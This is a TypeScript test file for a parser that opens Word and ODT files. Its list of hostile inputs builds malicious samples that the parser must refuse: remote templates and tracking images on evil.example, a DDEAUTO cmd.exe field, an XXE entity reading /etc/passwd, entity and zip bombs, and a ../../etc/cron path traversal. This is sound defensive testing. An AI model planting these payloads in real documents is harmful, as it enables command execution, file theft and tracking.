import { strToU8, type Zippable, zipSync } from 'fflate';
import { describe, expect, test } from 'vitest';
import { openWord, type WordFault, wordLimits } from './open-word.ts';
import { checkBox, paragraph, textControl, wordFile } from './write-word.ts';

const main = 'http://schemas.openxmlformats.org/wordprocessingml/2006/main';
const relation = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const type = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml';

const types = (documentType = type) =>
  `<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/word/document.xml" ContentType="${documentType}"/></Types>`;
const document = (body: string) =>
  `<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="${main}"><w:body>${body}</w:body></w:document>`;
const relations = (kind: string, target: string, mode = 'External') =>
  `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="${relation}/${kind}" Target="${target}" TargetMode="${mode}"/></Relationships>`;
const text = (words: string) => `<w:p><w:r><w:t>${words}</w:t></w:r></w:p>`;

/** A small Word file, with parts added or exchanged. */
function aFile(parts: Readonly<Record<string, string | Uint8Array>> = {}): Uint8Array {
  const files: Zippable = {};
  const all = {
    '[Content_Types].xml': types(),
    'word/document.xml': document(text('Hei')),
    ...parts,
  };
  for (const [name, content] of Object.entries(all))
    files[name] = typeof content === 'string' ? strToU8(content) : content;
  return zipSync(files);
}

/** What an old Office file or an encrypted one begins with. */
function compound(stream: string): Uint8Array {
  const name = Buffer.from(stream, 'utf16le');
  return Buffer.concat([
    Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]),
    Buffer.alloc(504),
    name,
  ]);
}

const field = (instruction: string) =>
  document(`<w:p><w:r><w:instrText>${instruction}</w:instrText></w:r></w:p>`);

/** The first file says that it unpacks to 10 bytes, and does not. */
function lying(): Uint8Array {
  const file = aFile({ 'word/document.xml': document(text('a'.repeat(50_000))) });
  const view = new DataView(file.buffer, file.byteOffset);
  for (let at = 0; at < file.length - 46; at += 1)
    if (view.getUint32(at, true) === 0x02014b50 && file[at + 46] === 0x77)
      view.setUint32(at + 24, 10, true);
  return file;
}

/** A thousand at a time. */
const manySpaces = (thousands: number) =>
  `<office:document-content><text:p>${'<text:s text:c="1000"/>'.repeat(thousands)}</text:p></office:document-content>`;

const hostile: readonly (readonly [string, WordFault, Uint8Array])[] = [
  ['nothing', 'no-file', new Uint8Array()],
  ['more than 20 MB', 'file-too-large', new Uint8Array(wordLimits.bytes + 1)],
  ['a text', 'not-word', strToU8('Svar: ja')],
  ['a PDF', 'pdf', strToU8('%PDF-1.7 …')],
  ['a web page', 'not-word', strToU8('<html><script>alert(1)</script>')],
  ['a .doc', 'old-word', compound('WordDocument')],
  ['a file with a password', 'encrypted', compound('EncryptedPackage')],
  ['a zip of something else', 'not-word', zipSync({ 'readme.txt': strToU8('hei') })],
  ['a spreadsheet', 'not-word', aSpreadsheet()],
  ['an .odt that is none', 'broken', anOdt({ 'content.xml': '<a/>' })],
  ['an .odt without content', 'broken', anOdt({})],
  ['an .odt with a DTD', 'dtd', anOdt({ 'content.xml': '<!DOCTYPE a [<!ENTITY b "c">]><a/>' })],
  [
    'an .odt with spaces for hundreds of megabytes',
    'broken',
    anOdt({ 'content.xml': manySpaces(101) }),
  ],
  ['an .odt with macros', 'macros', anOdt({ 'Basic/Standard/Module1.xml': '<a/>' })],
  ['an .odt with a spreadsheet in it', 'embedded', anOdt({ 'Object 1/content.xml': '<a/>' })],
  [
    'an .odt with a password',
    'encrypted',
    anOdt({ 'content.xml': 'x', 'META-INF/manifest.xml': '<manifest:encryption-data/>' }),
  ],
  [
    'an OpenDocument spreadsheet',
    'not-word',
    anOdt({}, 'application/vnd.oasis.opendocument.spreadsheet'),
  ],
  [
    'a .docm',
    'macros',
    aFile({
      '[Content_Types].xml': types('application/vnd.ms-word.document.macroEnabled.main+xml'),
    }),
  ],
  ['macros by another name', 'macros', aFile({ 'word/vbaProject.bin': new Uint8Array(100) })],
  ['ActiveX', 'embedded', aFile({ 'word/activeX/activeX1.xml': '<a/>' })],
  ['an OLE object', 'embedded', aFile({ 'word/embeddings/oleObject1.bin': new Uint8Array(10) })],
  [
    'HTML to be unfolded',
    'embedded',
    aFile({ 'word/_rels/document.xml.rels': relations('aFChunk', 'x.html', 'Internal') }),
  ],
  [
    'a template from the web',
    'external',
    aFile({
      'word/_rels/settings.xml.rels': relations('attachedTemplate', 'https://evil.example/t.dotm'),
    }),
  ],
  [
    'a picture that tells that it was seen',
    'external',
    aFile({ 'word/_rels/document.xml.rels': relations('image', 'https://evil.example/1.png') }),
  ],
  [
    'a field that runs a program',
    'external',
    aFile({ 'word/document.xml': field('DDEAUTO cmd.exe') }),
  ],
  ['a field that fetches', 'external', aFile({ 'word/footer1.xml': field('INCLUDETEXT x') })],
  [
    'a field in pieces',
    'external',
    aFile({
      'word/document.xml': document(
        '<w:p><w:r><w:instrText>DDEA</w:instrText></w:r><w:r><w:instrText>UTO x</w:instrText></w:r></w:p>',
      ),
    }),
  ],
  [
    'entities that unfold',
    'dtd',
    aFile({
      'word/document.xml': `<!DOCTYPE w:document [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]>${document(text('&b;'))}`,
    }),
  ],
  [
    'an entity in another part',
    'dtd',
    aFile({
      'docProps/custom.xml': '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
    }),
  ],
  [
    'an entity nobody knows',
    'broken',
    aFile({ 'word/document.xml': document(text('&hemmeleg;')) }),
  ],
  ['a bomb', 'unpacks-too-large', aFile({ 'word/document.xml': new Uint8Array(15_000_000) })],
  [
    'a bomb beside what is read',
    'unpacks-too-large',
    aFile({ 'word/media/a.png': new Uint8Array(15_000_000) }),
  ],
  [
    'many files',
    'unpacks-too-large',
    zipSync(
      Object.fromEntries(Array.from({ length: 1_100 }, (_, index) => [`a${index}`, strToU8('a')])),
    ),
  ],
  ['a size that is not true', 'broken', lying()],
  ['a name that climbs', 'broken', aFile({ '../../etc/cron': 'x' })],
  ['the same name twice', 'broken', aFile({ 'WORD/document.xml': document('') })],
  ['half a file', 'broken', aFile().subarray(0, 300)],
  [
    'tags that do not fit',
    'broken',
    aFile({ 'word/document.xml': `<w:document xmlns:w="${main}"><w:p></w:document>` }),
  ],
  [
    'no end of depth',
    'broken',
    aFile({ 'word/document.xml': `<w:document>${'<a>'.repeat(20_000)}` }),
  ],
  [
    'letters in another coding',
    'broken',
    aFile({ 'word/document.xml': Buffer.from(document('æ'), 'latin1') }),
  ],
];

function aSpreadsheet(): Uint8Array {
  return zipSync({
    '[Content_Types].xml': strToU8(
      types('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml'),
    ),
    'xl/workbook.xml': strToU8('<workbook/>'),
  });
}

test.each(hostile)('%s is refused: %s', (_, fault, file) => {
  const began = performance.now();
  expect(openWord(file)).toEqual({ ok: false, refusal: { code: fault } });
  expect(performance.now() - began).toBeLessThan(1_000);
});

test('every reason to refuse has been tried', async () => {
  const { wordFaults } = await import('./open-word.ts');
  expect(new Set(hostile.map(([, fault]) => fault))).toEqual(new Set(wordFaults));
});

function read(body: string) {
  const opened = openWord(aFile({ 'word/document.xml': document(body) }));
  if (!opened.ok) throw new Error(opened.refusal.code);
  return opened.value;
}

describe('what is read', () => {
  test('a link to click on is no danger', () => {
    const linked = aFile({
      'word/_rels/document.xml.rels': relations('hyperlink', 'mailto:kari@demo.example'),
    });
    expect(openWord(linked)).toMatchObject({ ok: true });
  });

  test('tracked changes as they would be if all were accepted', () => {
    const changed =
      '<w:p><w:del><w:r><w:delText>Nei</w:delText></w:r></w:del><w:ins><w:r><w:t>Ja</w:t></w:r></w:ins><w:moveFrom><w:r><w:t>, bort</w:t></w:r></w:moveFrom></w:p>';
    expect(read(changed).paragraphs[0]?.text).toBe('Ja');
  });

  test('several paragraphs and a list in one field', () => {
    const listed =
      '<w:p><w:pPr><w:numPr><w:numId w:val="1"/></w:numPr></w:pPr><w:r><w:t>to</w:t></w:r></w:p>';
    const { controls } = read(
      `<w:sdt><w:sdtPr><w:tag w:val="a.1"/></w:sdtPr><w:sdtContent>${text('ein')}${listed}</w:sdtContent></w:sdt>`,
    );
    expect(controls).toEqual([
      { tag: 'a.1', title: '', isPlaceholder: false, isTicked: null, text: 'ein\n• to' },
    ]);
  });

  test('what stands beside a field is told apart from what stands in it', () => {
    const control =
      '<w:sdt><w:sdtPr><w:tag w:val="a.1"/></w:sdtPr><w:sdtContent><w:r><w:t>inne</w:t></w:r></w:sdtContent></w:sdt>';
    const { paragraphs } = read(`<w:p>${control}<w:r><w:t> ute</w:t></w:r></w:p>`);
    expect(paragraphs).toEqual([{ style: '', text: 'inne ute', outside: ' ute', controls: [0] }]);
  });
});

describe('what is written', () => {
  const written = () =>
    wordFile({
      title: 'Skjema <1>',
      language: 'nn',
      author: 'Statsforvaltaren',
      madeAt: new Date('2026-11-02T09:00:00Z'),
      properties: { Namn: 'a & b' },
      footer: 'fot',
      pageWords: ['Side', 'av'],
      isForm: true,
      body: [
        paragraph('Title', 'Skjema <1>'),
        paragraph(
          'Answer',
          textControl({ tag: 'a', title: 'A', id: 100 }, 'text', '', 'Skriv', 'nn'),
        ),
        paragraph(
          'Answer',
          textControl({ tag: 'b', title: 'B', id: 101 }, 'text', 'ein\n\tto', '', 'nn'),
        ),
        paragraph('Choice', checkBox({ tag: 'c', title: 'C', id: 102 }, true)),
      ],
    });

  test('is read back, and is the same bytes each time', () => {
    const opened = openWord(written());
    if (!opened.ok) throw new Error(opened.refusal.code);
    const { properties, paragraphs, controls } = opened.value;
    expect(properties.get('Namn')).toBe('a & b');
    expect(paragraphs[0]).toMatchObject({ style: 'title', text: 'Skjema <1>' });
    expect(controls.filter(({ tag }) => tag)).toEqual([
      { tag: 'a', title: 'A', isPlaceholder: true, isTicked: null, text: 'Skriv' },
      { tag: 'b', title: 'B', isPlaceholder: false, isTicked: null, text: 'ein\n\tto' },
      { tag: 'c', title: 'C', isPlaceholder: false, isTicked: true, text: '☒' },
    ]);
    expect(written()).toEqual(written());
  });

  test('a name that Word does not take is a fault of ours', () => {
    expect(() => checkBox({ tag: 'a'.repeat(65), title: '', id: 100 }, false)).toThrow(RangeError);
  });
});

test('an .odt is read as a Word file is: styles, lines, boxes, and nothing that was deleted', () => {
  const content = `<office:document-content><office:automatic-styles>
    <style:style style:name="P1" style:parent-style-name="Svar"/></office:automatic-styles>
    <office:body><office:text><text:tracked-changes><text:p>Bort</text:p></text:tracked-changes>
    <text:h text:style-name="Heading_20_2" text:outline-level="2">K1. Spørsmål</text:h>
    <text:p text:style-name="P1">To <text:s text:c="2"/>ord<text:line-break/>og<text:tab/>meir &amp;
      slikt<office:annotation><text:p>Merknad</text:p></office:annotation></text:p>
    <text:p text:style-name="Val"><loext:content-control loext:checkbox="true" loext:checked="true">☒</loext:content-control> Ja</text:p>
    <text:p><loext:content-control>Utan namn</loext:content-control></text:p>
    <text:p><loext:content-control loext:tag="k1">Med namn</loext:content-control></text:p>
    </office:text></office:body></office:document-content>`;
  const meta = `<office:document-meta><meta:user-defined meta:name="A">b</meta:user-defined></office:document-meta>`;
  const read = openWord(anOdt({ 'content.xml': content, 'meta.xml': meta }));
  if (!read.ok) throw new Error(read.refusal.code);
  const { format, properties, paragraphs, controls } = read.value;
  expect([format, [...properties]]).toEqual(['odt', [['A', 'b']]]);
  expect(paragraphs).toEqual([
    { style: 'heading 2', text: 'K1. Spørsmål', outside: 'K1. Spørsmål', controls: [] },
    {
      style: 'svar',
      text: 'To   ord\nog\tmeir & slikt',
      outside: 'To   ord\nog\tmeir & slikt',
      controls: [],
    },
    { style: 'val', text: '☒ Ja', outside: ' Ja', controls: [0] },
    { style: '', text: 'Utan namn', outside: 'Utan namn', controls: [] },
    { style: '', text: 'Med namn', outside: '', controls: [1] },
  ]);
  expect(controls).toMatchObject([
    { isTicked: true, text: '☒' },
    { tag: 'k1', isTicked: null, text: 'Med namn' },
  ]);
});

function anOdt(
  parts: Readonly<Record<string, string>>,
  mimetype = 'application/vnd.oasis.opendocument.text',
): Uint8Array {
  const all = { mimetype, ...parts };
  return zipSync(
    Object.fromEntries(Object.entries(all).map(([name, text]) => [name, strToU8(text)])),
  );
}
